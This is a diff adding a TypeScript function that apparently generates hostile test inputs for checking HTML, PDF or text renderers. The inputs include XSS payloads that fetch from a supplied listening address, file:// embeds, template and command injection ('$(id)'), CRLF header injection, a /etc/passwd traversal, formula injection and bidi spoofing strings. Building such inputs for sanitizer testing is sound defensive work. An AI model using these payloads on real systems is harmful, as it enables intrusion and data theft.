@@ -1,0 +1,57 @@
+/** Texts that try to make a page load, read, run or look like something. `to` is an address that listens. */
+export function hostileTexts(to: string, file: string): readonly string[] {
+  const url = `http://${to}`;
+  const breakouts = ['', '">', "'>", '</style>', '</title>', '</bdi></p>', '--></svg>'];
+  const payloads = [
+    `<script>fetch('${url}/s')</script>`,
+    `<img src=${url}/i onerror=alert(1)>`,
+    `<link rel=prefetch href=${url}/p>`,
+    `<link rel=dns-prefetch href=//x.${to}>`,
+    `<link rel=stylesheet href=${url}/c>`,
+    `<meta http-equiv=refresh content="0;url=${url}/m">`,
+    `<iframe src=file://${file}></iframe>`,
+    `<iframe src=${url}/f></iframe>`,
+    `<object data=${url}/o></object>`,
+    `<embed src=file://${file}>`,
+    `<svg onload=fetch('${url}/v')><image href=${url}/w /></svg>`,
+    `<style>@import url(${url}/t);*{background:url(${url}/u)}</style>`,
+    `<a href=javascript:fetch('${url}/j')>free</a>`,
+    `<base href=${url}/>`,
+    `<video src=${url}/d autoplay poster=${url}/e></video>`,
+  ];
+  const others = [
+    `new WebSocket('ws://${to}')`,
+    `"};fetch("${url}")//`,
+    `\${fetch('${url}')}`,
+    '{{constructor.constructor("return process")()}}',
+    `url(${url}/x)`,
+    `expression(fetch('${url}'))`,
+    `${url}/plain-link`,
+    `javascript:fetch('${url}')`,
+    `data:text/html,<script>fetch('${url}')</script>`,
+    `A\r\nSet-Cookie: a=b\r\n\r\n<script src=${url}></script>`,
+    `&lt;script src=${url}&gt; &amp;amp; &#60;b&#62;`,
+    '<!-- <!doctype html> ]]> <![CDATA[ ?>',
+    '\u202Etxt.exe\u202C \u2066evil\u2069 \u200Fmarks\u200E',
+    'Z\u0351a\u0352l\u0353g\u0354o\u0355'.repeat(18),
+    'W'.repeat(200),
+    'iiiiiiiiii '.repeat(18),
+    '<'.repeat(200),
+    '&'.repeat(200),
+    '"\'`'.repeat(60),
+    '😀'.repeat(50),
+    '漢字'.repeat(100),
+    'مرحبا'.repeat(40),
+    'שלום '.repeat(40),
+    'कखग ไทย 한국어 '.repeat(12),
+    '\u0000\u0001\u0007\u001B[31mred\u007F\u0085',
+    '\uD800 lonely \uDC00',
+    '\uFEFF\uFFF9\uFFFA\uFFFB\u00AD',
+    '%PDF-1.4 /JS (app.alert(1)) /OpenAction',
+    '(\\) Tj ET Q q BT \\(',
+    '../../../../etc/passwd',
+    '$(id) `id` ; id | id',
+    '= 1+1 ; @SUM(A1) ; -1+1',
+  ];
+  return [...breakouts.flatMap((breakout) => payloads.map((payload) => breakout + payload)), ...others];
+}
